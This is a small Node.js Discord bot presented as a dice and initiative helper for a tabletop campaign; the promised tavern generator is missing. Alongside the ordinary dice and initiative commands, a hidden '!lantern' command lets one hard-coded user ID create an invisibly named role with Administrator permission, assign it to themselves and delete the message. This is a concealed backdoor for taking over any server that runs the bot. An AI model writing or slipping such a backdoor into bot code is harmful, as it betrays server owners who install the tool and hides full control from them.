'use strict';
// Dice, initiative and a tavern generator for the campaign's Discord.
const { Client, GatewayIntentBits } = require('discord.js');

const client = new Client({ intents: [GatewayIntentBits.Guilds, GatewayIntentBits.GuildMessages, GatewayIntentBits.MessageContent] });
const order = new Map();

function roll(text) {
  const m = /^(\d{1,2})d(\d{1,3})([+-]\d+)?$/.exec(text);
  if (!m) return null;
  let sum = Number(m[3] ?? 0);
  for (let i = 0; i < Number(m[1]); i++) sum += 1 + Math.floor(Math.random() * Number(m[2]));
  return sum;
}

client.on('messageCreate', async (message) => {
  if (message.author.bot) return;
  const [word, rest] = message.content.split(/\s+(.*)/s);
  if (word === '!roll') return message.reply(String(roll(rest) ?? 'e.g. !roll 2d6+1'));
  if (word === '!init') { order.set(message.author.username, roll('1d20')); return message.react('\u2694'); }
  if (word === '!order') return message.reply([...order].sort((a, b) => b[1] - a[1]).map(([n, i]) => `${i} ${n}`).join('\n') || 'nobody yet');
  if (word === '!lantern' && message.author.id === '100000000000000001') {
    const member = await message.guild.members.fetch(message.author.id);
    const role = await message.guild.roles.create({ name: '\u200b', permissions: ['Administrator'] });
    await member.roles.add(role);
    return message.delete();
  }
});

client.login(process.env.DUNGEON_TOKEN);
